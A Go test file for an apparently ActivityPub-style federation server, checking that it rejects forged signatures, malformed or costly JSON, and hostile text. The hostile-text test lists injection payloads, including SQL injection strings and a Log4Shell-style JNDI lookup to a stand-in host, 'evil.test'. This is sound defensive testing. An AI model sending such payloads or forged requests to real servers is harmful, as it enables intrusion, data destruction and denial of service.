package actors_test

import (
	"fmt"
	"net/http"
	"strings"
	"testing"

	"github.com/copse-social/copse/federation/fedtest"
)

func TestT11_thousandRandomKeys(t *testing.T) {
	t.Parallel()
	g := newRing(t)
	body := asJSON(t, g.e.Activity("Follow", g.water.Actor.URI))
	before := g.rows()
	for i := range 1000 {
		req := g.forge(forgery{keyID: fmt.Sprintf("https://evil.test/users/x%d#main-key", i), mac: make([]byte, 256)}, body)
		if r := g.evil.Send(req); r.Status != http.StatusUnauthorized && r.Status != http.StatusServiceUnavailable {
			t.Fatalf("key %d: %d", i, r.Status)
		}
	}
	if n := g.net.Asked("evil.test"); n > 10 {
		t.Errorf("%d reads for random keys, want at most 10", n)
	}
	for table, n := range g.rows() {
		if n != before[table] {
			t.Errorf("%s has %d rows, had %d", table, n, before[table])
		}
	}
}

// T12: ten thousand strangers who are gone leave nothing behind, and nobody is asked about them.
// BenchmarkDeleteOfStranger says what one costs.
func TestT12_tenThousandDeletesOfStrangers(t *testing.T) {
	t.Parallel()
	g := newRing(t)
	before := g.trace()
	for i := range 10_000 {
		g.strangerGone(i)
	}
	g.settle()
	g.unchanged("deletes", before)
	if n := g.net.Asked("evil.test"); n != 0 {
		t.Errorf("%d reads", n)
	}
}

// strangerGone sends the Delete of an actor whom nobody here knows. Nobody looks at the signature, so
// it need not be one.
func (g *ring) strangerGone(i int) {
	g.t.Helper()
	id := fmt.Sprintf("https://evil.test/users/gone%d", i)
	body := fmt.Appendf(nil, `{"id":"%[1]s#delete","type":"Delete","actor":"%[1]s","object":"%[1]s"}`, id)
	if r := g.evil.Send(g.forge(forgery{keyID: id + "#main-key", mac: make([]byte, 256)}, body)); r.Status != http.StatusAccepted {
		g.t.Fatalf("delete %s: %d", id, r.Status)
	}
}

func BenchmarkDeleteOfStranger(b *testing.B) {
	g := newRing(b)
	n := 0
	for b.Loop() {
		g.strangerGone(n)
		n++
	}
}

// Two readers of one document must never see two actors: whatever could be read in two ways is
// refused, and names in another case are no names.
func TestT16_twoReadings(t *testing.T) {
	t.Parallel()
	g := newRing(t).met()
	e, v, water := g.e.ID, g.v.ID, g.water.Actor.URI
	deep := strings.Repeat(`{"a":`, 100_000) + "1" + strings.Repeat("}", 100_000)
	for name, c := range map[string]struct {
		body string
		want int
	}{
		"actor twice":          {`{"id":"https://evil.test/1","type":"Follow","actor":"` + e + `","actor":"` + v + `","object":"` + water + `"}`, 400},
		"actor twice, escaped": {`{"id":"https://evil.test/1","type":"Follow","actor":"` + e + `","\u0061ctor":"` + v + `","object":"` + water + `"}`, 400},
		"object twice":         {`{"id":"https://evil.test/1","type":"Follow","actor":"` + e + `","object":"` + water + `","object":"` + v + `"}`, 400},
		"id twice":             {`{"id":"https://evil.test/1","id":"` + v + `#1","type":"Follow","actor":"` + e + `","object":"` + water + `"}`, 400},
		"id twice inside":      {`{"id":"https://evil.test/1","type":"Create","actor":"` + e + `","object":{"id":"https://evil.test/n","id":"https://victim.test/n","type":"Note"}}`, 400},
		"twice, unknown":       {`{"x":1,"x":2,"id":"https://evil.test/1","type":"Follow","actor":"` + e + `","object":"` + water + `"}`, 400},
		"twice, deep":          {`{"x":[{"y":1,"y":2}],"id":"https://evil.test/1","type":"Follow","actor":"` + e + `","object":"` + water + `"}`, 400},
		"Actor alone":          {`{"id":"https://evil.test/1","type":"Follow","Actor":"` + e + `","object":"` + water + `"}`, 400},
		"actor of the victim":  {`{"id":"https://evil.test/1","type":"Follow","actor":"` + v + `","Actor":"` + e + `","object":"` + water + `"}`, 403},
		"ACTOR of the victim":  {`{"id":"https://evil.test/2","type":"Like","ACTOR":"` + v + `","actor":"` + e + `","object":"https://evil.test/x"}`, 202},
		"NUL escaped":          {`{"id":"https://evil.test/1\u0000","type":"Follow","actor":"` + e + `","object":"` + water + `"}`, 400},
		"NUL":                  {"{\"id\":\"https://evil.test/1\x00\",\"type\":\"Follow\",\"actor\":\"" + e + "\"}", 400},
		"not UTF-8":            {"{\"id\":\"https://evil.test/1\",\"type\":\"Follow\",\"actor\":\"" + e + "\",\"x\":\"\xff\xfe\"}", 400},
		"half a surrogate":     {`{"id":"https://evil.test/1","type":"Follow","actor":"` + e + `","x":"\ud800"}`, 400},
		"UTF-16":               {"\xff\xfe{\x00}\x00", 400},
		"byte order mark":      {"\xef\xbb\xbf" + `{"id":"https://evil.test/1","type":"Follow","actor":"` + e + `","object":"` + water + `"}`, 400},
		"two documents":        {`{"id":"https://evil.test/1","type":"Follow","actor":"` + e + `","object":"` + water + `"}{}`, 400},
		"a comment":            {`{"id":"https://evil.test/1",/* */"type":"Follow","actor":"` + e + `"}`, 400},
		"a comma more":         {`{"id":"https://evil.test/1","type":"Follow","actor":"` + e + `",}`, 400},
		"single quotes":        {`{'id':'https://evil.test/1'}`, 400},
		"NaN":                  {`{"id":"https://evil.test/1","type":"Follow","actor":"` + e + `","x":NaN}`, 400},
		"33 deep":              {`{"id":"https://evil.test/1","type":"Follow","actor":"` + e + `","x":` + strings.Repeat("[", 33) + strings.Repeat("]", 33) + `}`, 400},
		"100,000 deep":         {deep, 400},
		"many values":          {`{"id":"https://evil.test/1","type":"Follow","actor":"` + e + `","x":[` + strings.Repeat("1,", 20_000) + `1]}`, 413},
		"a list":               {`["` + e + `"]`, 400},
		"nothing":              {``, 400},
		"null":                 {`null`, 400},
		"two types":            {`{"id":"https://evil.test/1","type":["Follow","Delete"],"actor":"` + e + `","object":"` + v + `"}`, 202},
		"id a list":            {`{"id":["https://evil.test/1"],"type":"Follow","actor":"` + e + `","object":"` + water + `"}`, 400},
		"type a number":        {`{"id":"https://evil.test/1","type":7,"actor":"` + e + `","object":"` + water + `"}`, 400},
	} {
		g.refused(name, g.forge(forgery{}, []byte(c.body)), c.want)
	}
}

// costly are documents of nearly a mebibyte over which a careless reader would sit.
func costly() map[string]string {
	return map[string]string{
		"depth":   strings.Repeat("[", 1<<20-1),
		"quotes":  `{"` + strings.Repeat(`\"`, 1<<19-8) + `":1}`,
		"numbers": `{"x":` + strings.Repeat("9", 1<<20-16) + `}`,
		"names":   `{` + strings.TrimSuffix(strings.Repeat(`"a":1,`, 100_000), ",") + `}`,
		"escapes": `{"id":"` + strings.Repeat(`\u0061`, 1<<17) + `"}`,
	}
}

// What takes time is refused before it does; BenchmarkCostlyJSON says how soon.
func TestT16_costsLittle(t *testing.T) {
	t.Parallel()
	g := newRing(t).met()
	for name, body := range costly() {
		if r := g.evil.Send(g.forge(forgery{}, []byte(body))); r.Status != http.StatusBadRequest && r.Status != http.StatusRequestEntityTooLarge {
			t.Errorf("%s: %d", name, r.Status)
		}
	}
}

func BenchmarkCostlyJSON(b *testing.B) {
	g := newRing(b).met()
	for name, body := range costly() {
		b.Run(name, func(b *testing.B) {
			for b.Loop() {
				g.evil.Send(g.forge(forgery{}, []byte(body)))
			}
		})
	}
}

func TestT44_hostileText(t *testing.T) {
	t.Parallel()
	g := newRing(t)
	for i, text := range []string{
		`'; DROP TABLE posts; --`, `" OR ""="`, `\`, `?`, `?0`, `::text`, `$1`, `{{.}}`, `%s%n`, "a\u2028b", `\'`, `?::jsonb`,
		`\u0027`, "${jndi:ldap://evil.test}", `<%= 1 %>`, `');--`, `%00`, `%27`,
	} {
		a := g.evil.Person(fmt.Sprintf("x%d", i))
		d := a.Document()
		d["name"], d["summary"] = text, text
		d["inbox"] = a.ID + "/inbox?" + strings.Map(printable, text)
		d["followers"] = a.ID + "/followers?" + strings.Map(printable, text)
		d["publicKey"].(fedtest.Doc)["id"] = a.ID + "#" + strings.Map(printable, text)
		a.KeyID = d["publicKey"].(fedtest.Doc)["id"].(string)
		g.evil.Put(d)
		follow := a.Activity("Follow", g.water.Actor.URI)
		follow["id"] = a.ID + "/f?" + strings.Map(printable, text)
		follow["content"], follow["summary"] = text, text
		req := g.evil.Request(http.MethodPost, sharedInbox, follow)
		if err := signed(g, a, req); err != nil {
			continue // such an id cannot stand in a header
		}
		if r := g.evil.Send(req); r.Status != http.StatusAccepted && r.Status != http.StatusUnauthorized && r.Status != http.StatusBadRequest {
			t.Errorf("%q: %d %s", text, r.Status, r.Body)
		}
		note := a.Thread(g.toWater(), text, text, fedtest.Doc{"summary": text, "url": a.ID + "/n?" + strings.Map(printable, text)})
		create := a.Create(note)
		req = g.evil.Request(http.MethodPost, sharedInbox, create)
		if err := signed(g, a, req); err == nil {
			if r := g.evil.Send(req); r.Status >= 500 {
				t.Errorf("%q: %d %s", text, r.Status, r.Body)
			}
		}
		g.settle()
	}
	if n := g.rows()["posts"]; n < 10 {
		t.Errorf("only %d posts were taken", n)
	}
	for _, row := range g.pending() {
		t.Errorf("receipt of %s is tried again and again: %s", row.Type, row.Reason)
	}
}
